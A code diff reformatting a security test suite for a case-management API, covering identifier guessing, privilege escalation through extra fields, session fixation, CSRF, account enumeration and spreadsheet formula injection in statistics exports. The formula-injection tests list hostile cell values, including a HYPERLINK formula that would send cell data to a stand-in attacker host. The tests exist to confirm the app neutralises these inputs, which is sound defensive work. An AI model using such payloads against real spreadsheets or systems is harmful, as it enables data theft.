@@ -1,7 +1,13 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import ExcelJS from 'exceljs';
 import request from 'supertest';
-import { CSRF_COOKIE, CSRF_HEADER, SESSION_COOKIE, type IndicatorReport, type PublishedStatisticsTable } from '@haven/contracts';
+import {
+  CSRF_COOKIE,
+  CSRF_HEADER,
+  SESSION_COOKIE,
+  type IndicatorReport,
+  type PublishedStatisticsTable,
+} from '@haven/contracts';
 import { queryDatabase, type HttpSession } from '@haven/testing';
 import { routeTable } from '../../apps/api/src/core/http/route-table.js';
 import { indicatorRows, tableRows, toCsv, toXlsx } from '../../apps/api/src/modules/statistics/statistics.mapper.js';
@@ -31,7 +37,9 @@ describe('classic attacks', () => {
 
   beforeAll(async () => {
     // A generous per-account limit: the enumeration checks fail on purpose many times.
-    harness = await startTestApp({ environment: { LOGIN_MAX_FAILURES_PER_ACCOUNT: '100', LOGIN_MAX_FAILURES_PER_ADDRESS: '10000' } });
+    harness = await startTestApp({
+      environment: { LOGIN_MAX_FAILURES_PER_ACCOUNT: '100', LOGIN_MAX_FAILURES_PER_ADDRESS: '10000' },
+    });
     fixtures = await buildMatrixFixtures(harness);
     caseworker = await harness.signInAs('caseworker');
     supervisor = await harness.signInAs('supervisor');
@@ -57,12 +65,20 @@ describe('classic attacks', () => {
           const elsewhere = fillRoute(`:${name}`, role === 'partner' ? fixtures.withdrawn : fixtures.other, entry);
           const guesses = [nearMiss(own, 0), nearMiss(own, 5), ...(elsewhere !== own ? [elsewhere] : [])];
           for (const guess of guesses) {
-            const target = pattern.replace(`:${name}`, guess).replace(/:(\w+)/g, (_, other: string) => fillRoute(`:${other}`, fixtures.own, entry));
+            const target = pattern
+              .replace(`:${name}`, guess)
+              .replace(/:(\w+)/g, (_, other: string) => fillRoute(`:${other}`, fixtures.own, entry));
             const response = await callRoute(session, method, target + (entry.query ?? ''), entry.body ?? {});
             tried += 1;
             // A partner's "elsewhere" is its own organisation's withdrawn referral: a step on it is told it ended (the matrix says so).
-            const expected = role === 'partner' && guess === elsewhere && typeof entry.referred?.withdrawn === 'number' ? entry.referred.withdrawn : 404;
-            if (response.status !== expected) mismatches.push(`${route} as ${role} with :${name} = ${guess === elsewhere ? 'another scope’s id' : 'a near miss'}: ${response.status}`);
+            const expected =
+              role === 'partner' && guess === elsewhere && typeof entry.referred?.withdrawn === 'number'
+                ? entry.referred.withdrawn
+                : 404;
+            if (response.status !== expected)
+              mismatches.push(
+                `${route} as ${role} with :${name} = ${guess === elsewhere ? 'another scope’s id' : 'a near miss'}: ${response.status}`,
+              );
           }
         }
       }
@@ -73,7 +89,8 @@ describe('classic attacks', () => {
     it('gives records random identifiers and references, not a sequence', async () => {
       const first = (await caseworker.post('/api/cases', registration())).body;
       const second = (await caseworker.post('/api/cases', registration())).body;
-      for (const created of [first, second]) expect(created.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
+      for (const created of [first, second])
+        expect(created.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
       expect(first.reference).not.toEqual(second.reference);
       const differing = [...(first.id as string)].filter((char, index) => char !== (second.id as string)[index]).length;
       expect(differing).toBeGreaterThan(10);
@@ -84,7 +101,13 @@ describe('classic attacks', () => {
     const ESCALATION = { role: 'admin', organisationId: '', active: true, email: 'taken-over@test.haven.test' };
 
     it('lets no caseworker or supervisor change their own role or organisation, through any user or account route', async () => {
-      const userRoutes = routeTable(harness.app).filter((route) => !route.isPublic && route.method !== 'GET' && /^\/api\/(users|auth|account|me)\b/.test(route.path) && route.path !== '/api/auth/logout');
+      const userRoutes = routeTable(harness.app).filter(
+        (route) =>
+          !route.isPublic &&
+          route.method !== 'GET' &&
+          /^\/api\/(users|auth|account|me)\b/.test(route.path) &&
+          route.path !== '/api/auth/logout',
+      );
       expect(userRoutes.length).toBeGreaterThan(1);
       for (const person of ['caseworker', 'supervisor'] as const) {
         const session = await harness.signInAs(person);
@@ -96,9 +119,18 @@ describe('classic attacks', () => {
           const response = await callRoute(session, route.method, path, body);
           // A route that reads a body must refuse the extra fields; one that reads none ignores them (the stored row is checked below).
           const takesBody = !!entry.body || !!route.contract?.body;
-          expect({ route: `${route.method} ${route.path}`, person, status: response.status < 500, refused: takesBody ? response.status >= 400 : true }).toEqual({ route: `${route.method} ${route.path}`, person, status: true, refused: true });
+          expect({
+            route: `${route.method} ${route.path}`,
+            person,
+            status: response.status < 500,
+            refused: takesBody ? response.status >= 400 : true,
+          }).toEqual({ route: `${route.method} ${route.path}`, person, status: true, refused: true });
         }
-        const [stored] = await queryDatabase<{ role: string; organisation_id: string; email: string }>(harness.database.url, 'SELECT role, organisation_id, email FROM app."user" WHERE id = $1', [self.id]);
+        const [stored] = await queryDatabase<{ role: string; organisation_id: string; email: string }>(
+          harness.database.url,
+          'SELECT role, organisation_id, email FROM app."user" WHERE id = $1',
+          [self.id],
+        );
         expect(stored).toEqual({ role: person, organisation_id: self.organisationId, email: self.email });
         expect((await session.get('/api/auth/me')).body.user.role).toBe(person);
       }
@@ -110,16 +142,41 @@ describe('classic attacks', () => {
       for (const target of [harness.people.otherCaseworker.id, harness.people.otherSupervisor.id]) {
         expect((await supervisor.post(`/api/users/${target}/deactivate`, { role: 'admin' })).status).toBe(404);
       }
-      const peer = await harness.addPerson({ email: 'peer.supervisor@test.haven.test', displayName: 'Peer Supervisor', role: 'supervisor', organisation: 'shelterA' });
+      const peer = await harness.addPerson({
+        email: 'peer.supervisor@test.haven.test',
+        displayName: 'Peer Supervisor',
+        role: 'supervisor',
+        organisation: 'shelterA',
+      });
       expect((await supervisor.post(`/api/users/${peer.id}/deactivate`)).status).toBe(404);
       expect((await supervisor.patch(`/api/users/${peer.id}`, { role: 'caseworker' })).status).toBe(404);
-      expect((await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'supervisor' })).status).toBe(403);
-      expect((await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'admin' })).status).toBe(403);
-      const organisation = await supervisor.patch(`/api/organisations/${harness.organisations.shelterA}`, { acceptingReferrals: true, kind: 'system' });
+      expect(
+        (await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'supervisor' })).status,
+      ).toBe(403);
+      expect((await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'admin' })).status).toBe(
+        403,
+      );
+      const organisation = await supervisor.patch(`/api/organisations/${harness.organisations.shelterA}`, {
+        acceptingReferrals: true,
+        kind: 'system',
+      });
       expect(organisation.status).toBe(404);
-      const users = await queryDatabase<{ active: boolean; role: string }>(harness.database.url, 'SELECT active, role FROM app."user" WHERE id = ANY($1) ORDER BY role', [[harness.people.caseworker.id, harness.people.otherCaseworker.id, harness.people.otherSupervisor.id, peer.id]]);
-      expect(users).toEqual([{ active: true, role: 'caseworker' }, { active: true, role: 'caseworker' }, { active: true, role: 'supervisor' }, { active: true, role: 'supervisor' }]);
-      const [organisationRow] = await queryDatabase<{ kind: string }>(harness.database.url, 'SELECT kind FROM app.organisation WHERE id = $1', [harness.organisations.shelterA]);
+      const users = await queryDatabase<{ active: boolean; role: string }>(
+        harness.database.url,
+        'SELECT active, role FROM app."user" WHERE id = ANY($1) ORDER BY role',
+        [[harness.people.caseworker.id, harness.people.otherCaseworker.id, harness.people.otherSupervisor.id, peer.id]],
+      );
+      expect(users).toEqual([
+        { active: true, role: 'caseworker' },
+        { active: true, role: 'caseworker' },
+        { active: true, role: 'supervisor' },
+        { active: true, role: 'supervisor' },
+      ]);
+      const [organisationRow] = await queryDatabase<{ kind: string }>(
+        harness.database.url,
+        'SELECT kind FROM app.organisation WHERE id = $1',
+        [harness.organisations.shelterA],
+      );
       expect(organisationRow!.kind).toBe('shelter');
     });
 
@@ -133,35 +190,69 @@ describe('classic attacks', () => {
         registeredBy: harness.people.otherCaseworker.id,
         reference: 'HV-CHOSEN-0001',
       };
-      const [{ count: casesBefore }] = await queryDatabase<{ count: string }>(harness.database.url, 'SELECT count(*) FROM app."case"');
+      const [{ count: casesBefore }] = await queryDatabase<{ count: string }>(
+        harness.database.url,
+        'SELECT count(*) FROM app."case"',
+      );
       const create = await caseworker.post('/api/cases', { ...registration(), ...extras });
       expect(create.status).toBe(400);
       const named = (create.body.errors as { message: string }[]).map((error) => error.message).join(' ');
-      for (const field of ['id', 'organisationId', 'ownerOrganisationId', 'createdBy', 'registeredBy', 'reference']) expect(named).toContain(field);
-      const [{ count: casesAfter }] = await queryDatabase<{ count: string }>(harness.database.url, 'SELECT count(*) FROM app."case"');
+      for (const field of ['id', 'organisationId', 'ownerOrganisationId', 'createdBy', 'registeredBy', 'reference'])
+        expect(named).toContain(field);
+      const [{ count: casesAfter }] = await queryDatabase<{ count: string }>(
+        harness.database.url,
+        'SELECT count(*) FROM app."case"',
+      );
       expect(casesAfter).toBe(casesBefore);
 
       const caseId = fixtures.own.id!;
-      const [before] = await queryDatabase<{ version: number; organisation_id: string }>(harness.database.url, 'SELECT version, organisation_id FROM app."case" WHERE id = $1', [caseId]);
+      const [before] = await queryDatabase<{ version: number; organisation_id: string }>(
+        harness.database.url,
+        'SELECT version, organisation_id FROM app."case" WHERE id = $1',
+        [caseId],
+      );
       const current = (await caseworker.get(`/api/cases/${caseId}`)).body;
-      const update = await caseworker.patch(`/api/cases/${caseId}`, { version: current.version, stage: 'assessment', organisationId: harness.organisations.shelterB, reference: 'HV-CHOSEN-0002' });
+      const update = await caseworker.patch(`/api/cases/${caseId}`, {
+        version: current.version,
+        stage: 'assessment',
+        organisationId: harness.organisations.shelterB,
+        reference: 'HV-CHOSEN-0002',
+      });
       expect(update.status).toBe(400);
-      const note = await caseworker.post(`/api/cases/${caseId}/notes`, { body: 'Extra fields', authorId: harness.people.supervisor.id, createdAt: '2020-01-01T00:00:00Z' });
+      const note = await caseworker.post(`/api/cases/${caseId}/notes`, {
+        body: 'Extra fields',
+        authorId: harness.people.supervisor.id,
+        createdAt: '2020-01-01T00:00:00Z',
+      });
       expect(note.status).toBe(400);
-      const [after] = await queryDatabase<{ version: number; organisation_id: string }>(harness.database.url, 'SELECT version, organisation_id FROM app."case" WHERE id = $1', [caseId]);
+      const [after] = await queryDatabase<{ version: number; organisation_id: string }>(
+        harness.database.url,
+        'SELECT version, organisation_id FROM app."case" WHERE id = $1',
+        [caseId],
+      );
       expect(after).toEqual(before);
     });
 
     it('does not let a case be registered to, or assigned to, someone of another organisation', async () => {
-      const registered = await caseworker.post('/api/cases', registration({ assigneeId: harness.people.otherCaseworker.id }));
+      const registered = await caseworker.post(
+        '/api/cases',
+        registration({ assigneeId: harness.people.otherCaseworker.id }),
+      );
       expect(registered.status).toBeGreaterThanOrEqual(400);
       expect(registered.status).toBeLessThan(500);
       const caseId = fixtures.own.id!;
       const current = (await supervisor.get(`/api/cases/${caseId}`)).body;
-      const assigned = await supervisor.post(`/api/cases/${caseId}/assignee`, { version: current.version, assigneeId: harness.people.otherCaseworker.id });
+      const assigned = await supervisor.post(`/api/cases/${caseId}/assignee`, {
+        version: current.version,
+        assigneeId: harness.people.otherCaseworker.id,
+      });
       expect(assigned.status).toBeGreaterThanOrEqual(400);
       expect(assigned.status).toBeLessThan(500);
-      const [stored] = await queryDatabase<{ assignee_id: string | null }>(harness.database.url, 'SELECT assignee_id FROM app."case" WHERE id = $1', [caseId]);
+      const [stored] = await queryDatabase<{ assignee_id: string | null }>(
+        harness.database.url,
+        'SELECT assignee_id FROM app."case" WHERE id = $1',
+        [caseId],
+      );
       expect(stored!.assignee_id).not.toBe(harness.people.otherCaseworker.id);
     });
   });
@@ -169,7 +260,10 @@ describe('classic attacks', () => {
   describe('sessions', () => {
     const login = (cookie?: string) => {
       const pending = request(harness.server).post('/api/auth/login');
-      return (cookie ? pending.set('Cookie', cookie) : pending).send({ email: harness.people.colleague.email, password: TEST_PASSWORD });
+      return (cookie ? pending.set('Cookie', cookie) : pending).send({
+        email: harness.people.colleague.email,
+        password: TEST_PASSWORD,
+      });
     };
 
     it('does not adopt a session cookie set before sign-in, and issues a new token at every sign-in', async () => {
@@ -179,11 +273,15 @@ describe('classic attacks', () => {
       const issued = cookieValue(cookieNamed(response, SESSION_COOKIE));
       expect(issued).toBeDefined();
       expect(issued).not.toBe(planted);
-      const withPlanted = await request(harness.server).get('/api/auth/me').set('Cookie', `${SESSION_COOKIE}=${planted}`);
+      const withPlanted = await request(harness.server)
+        .get('/api/auth/me')
+        .set('Cookie', `${SESSION_COOKIE}=${planted}`);
       expect(withPlanted.status).toBe(401);
       const again = cookieValue(cookieNamed(await login(`${SESSION_COOKIE}=${issued}`), SESSION_COOKIE));
       expect(again).not.toBe(issued);
-      expect((await request(harness.server).get('/api/auth/me').set('Cookie', `${SESSION_COOKIE}=${again}`)).status).toBe(200);
+      expect(
+        (await request(harness.server).get('/api/auth/me').set('Cookie', `${SESSION_COOKIE}=${again}`)).status,
+      ).toBe(200);
     });
 
     it('ends the session on the server at sign-out: the old cookie no longer works', async () => {
@@ -192,9 +290,20 @@ describe('classic attacks', () => {
       const csrf = response.body.csrfToken as string;
       const cookie = `${SESSION_COOKIE}=${token}; ${CSRF_COOKIE}=${csrf}`;
       expect((await request(harness.server).get('/api/auth/me').set('Cookie', cookie)).status).toBe(200);
-      expect((await request(harness.server).post('/api/auth/logout').set('Cookie', cookie).set(CSRF_HEADER, csrf).send({})).status).toBe(204);
+      expect(
+        (await request(harness.server).post('/api/auth/logout').set('Cookie', cookie).set(CSRF_HEADER, csrf).send({}))
+          .status,
+      ).toBe(204);
       expect((await request(harness.server).get('/api/auth/me').set('Cookie', cookie)).status).toBe(401);
-      expect((await request(harness.server).post('/api/cases').set('Cookie', cookie).set(CSRF_HEADER, csrf).send(registration())).status).toBe(401);
+      expect(
+        (
+          await request(harness.server)
+            .post('/api/cases')
+            .set('Cookie', cookie)
+            .set(CSRF_HEADER, csrf)
+            .send(registration())
+        ).status,
+      ).toBe(401);
     });
 
     it('sets the session cookie httpOnly and both cookies SameSite=Strict', async () => {
@@ -219,27 +328,54 @@ describe('classic attacks', () => {
         const entry = ROUTE_MATRIX[`${route.method} ${route.path}`] ?? { allowed: [] };
         const path = fillRoute(route.path, fixtures.own, entry);
         const verb = route.method.toLowerCase() as 'post' | 'patch' | 'put' | 'delete';
-        for (const [label, header] of [['no header', undefined], ['a wrong token', 'forged-token'], ['another session’s token', other.me.csrfToken]] as const) {
+        for (const [label, header] of [
+          ['no header', undefined],
+          ['a wrong token', 'forged-token'],
+          ['another session’s token', other.me.csrfToken],
+        ] as const) {
           const pending = caseworker.agent[verb](path);
           const response = await (header ? pending.set(CSRF_HEADER, header) : pending).send(entry.body ?? {});
-          expect({ route: `${route.method} ${route.path}`, label, status: response.status }).toEqual({ route: `${route.method} ${route.path}`, label, status: 403 });
+          expect({ route: `${route.method} ${route.path}`, label, status: response.status }).toEqual({
+            route: `${route.method} ${route.path}`,
+            label,
+            status: 403,
+          });
         }
       }
       // The session still works with its own token: the refusals were about the token.
-      expect((await caseworker.post(`/api/cases/${fixtures.own.id}/notes`, { body: 'After the forgeries' })).status).toBe(201);
+      expect(
+        (await caseworker.post(`/api/cases/${fixtures.own.id}/notes`, { body: 'After the forgeries' })).status,
+      ).toBe(201);
     });
 
     it('refuses a cross-site form post to sign in (only JSON is read)', async () => {
-      const form = await request(harness.server).post('/api/auth/login').type('form').send({ email: harness.people.caseworker.email, password: TEST_PASSWORD });
+      const form = await request(harness.server)
+        .post('/api/auth/login')
+        .type('form')
+        .send({ email: harness.people.caseworker.email, password: TEST_PASSWORD });
       expect(form.status).toBe(400);
       expect(cookieNamed(form, SESSION_COOKIE)).toBeUndefined();
-      const plain = await request(harness.server).post('/api/auth/login').set('Content-Type', 'text/plain').send(JSON.stringify({ email: harness.people.caseworker.email, password: TEST_PASSWORD }));
+      const plain = await request(harness.server)
+        .post('/api/auth/login')
+        .set('Content-Type', 'text/plain')
+        .send(JSON.stringify({ email: harness.people.caseworker.email, password: TEST_PASSWORD }));
       expect(plain.status).toBe(400);
     });
   });
 
   describe('formula injection in statistics downloads', () => {
-    const HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\uff1dHYPERLINK("http://attacker.invalid")', '\uff0b1', '\uff0d1', '\uff20SUM(A1)'];
+    const HOSTILE = [
+      '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1',
+      '\r=1',
+      '\uff1dHYPERLINK("http://attacker.invalid")',
+      '\uff0b1',
+      '\uff0d1',
+      '\uff20SUM(A1)',
+    ];
 
     async function xlsxCells(buffer: Buffer): Promise<ExcelJS.Cell[]> {
       const workbook = new ExcelJS.Workbook();
@@ -277,7 +413,14 @@ describe('classic attacks', () => {
         to: '2025-12',
         granularity: 'quarter',
         periods: [HOSTILE[5]],
-        indicators: [{ indicator: 'referralsCompleted', title: HOSTILE[0], definition: HOSTILE[3], values: [figure([HOSTILE[5]!], '+7')] }],
+        indicators: [
+          {
+            indicator: 'referralsCompleted',
+            title: HOSTILE[0],
+            definition: HOSTILE[3],
+            values: [figure([HOSTILE[5]!], '+7')],
+          },
+        ],
         withheldPeriods: [],
         openPeriods: [],
         k: 11,
@@ -287,7 +430,10 @@ describe('classic attacks', () => {
       } as unknown as IndicatorReport;
       for (const rows of [tableRows(table), indicatorRows(report)]) {
         const csv = toCsv(rows);
-        const fields = csv.split('\r\n').flatMap((line) => line.split(',')).map((field) => field.replace(/^"/, ''));
+        const fields = csv
+          .split('\r\n')
+          .flatMap((line) => line.split(','))
+          .map((field) => field.replace(/^"/, ''));
         expect(fields.filter((field) => FORMULA_START.test(field))).toEqual([]);
         expect(csv).toContain(`'=HYPERLINK`);
         const cells = await xlsxCells(await toXlsx(rows, [[HOSTILE[0]!, HOSTILE[3]!]]));
@@ -298,13 +444,18 @@ describe('classic attacks', () => {
   });
 
   describe('enumeration', () => {
-    const attempt = (email: string, password: string) => request(harness.server).post('/api/auth/login').send({ email, password });
+    const attempt = (email: string, password: string) =>
+      request(harness.server).post('/api/auth/login').send({ email, password });
 
     it('answers an unknown e-mail exactly as a wrong password, in a similar time', async () => {
       const unknown = await attempt('nobody-here@test.haven.test', 'Wrong-password-123');
       const wrong = await attempt(harness.people.caseworker.email, 'Wrong-password-123');
       expect(unknown.status).toBe(401);
-      expect({ status: unknown.status, body: unknown.body, type: unknown.headers['content-type'] }).toEqual({ status: wrong.status, body: wrong.body, type: wrong.headers['content-type'] });
+      expect({ status: unknown.status, body: unknown.body, type: unknown.headers['content-type'] }).toEqual({
+        status: wrong.status,
+        body: wrong.body,
+        type: wrong.headers['content-type'],
+      });
       const timeOf = async (email: string) => {
         const started = process.hrtime.bigint();
         await attempt(email, 'Wrong-password-123');
@@ -328,7 +479,10 @@ describe('classic attacks', () => {
       expect((await admin.post(`/api/users/${harness.people.otherSupervisor.id}/deactivate`)).status).toBe(204);
       const deactivated = await attempt(harness.people.otherSupervisor.email, TEST_PASSWORD);
       const unknown = await attempt('nobody-else@test.haven.test', TEST_PASSWORD);
-      expect({ status: deactivated.status, body: deactivated.body }).toEqual({ status: unknown.status, body: unknown.body });
+      expect({ status: deactivated.status, body: deactivated.body }).toEqual({
+        status: unknown.status,
+        body: unknown.body,
+      });
     });
 
     it('reveals nothing about other organisations’ survivors through the duplicate check', async () => {
@@ -336,12 +490,18 @@ describe('classic attacks', () => {
       const other = await harness.signInAs('otherCaseworker');
       expect((await other.post('/api/cases', registration({ ...person, estimatedAge: undefined }))).status).toBe(201);
       const probe = await caseworker.post('/api/cases/duplicate-check', person);
-      const nobody = await caseworker.post('/api/cases/duplicate-check', { ...person, givenName: 'Nonexistent', familyName: 'Nobodyperson' });
+      const nobody = await caseworker.post('/api/cases/duplicate-check', {
+        ...person,
+        givenName: 'Nonexistent',
+        familyName: 'Nobodyperson',
+      });
       expect(probe.status).toBe(200);
       expect(probe.body).toEqual({ possibleDuplicates: [], withheldDuplicate: false });
       expect(probe.body).toEqual(nobody.body);
       // The same person in the caller's own organisation is found: the check works, it is only scoped.
-      expect((await caseworker.post('/api/cases', registration({ ...person, estimatedAge: undefined }))).status).toBe(201);
+      expect((await caseworker.post('/api/cases', registration({ ...person, estimatedAge: undefined }))).status).toBe(
+        201,
+      );
       expect((await caseworker.post('/api/cases/duplicate-check', person)).body.possibleDuplicates).toHaveLength(1);
     });
   });
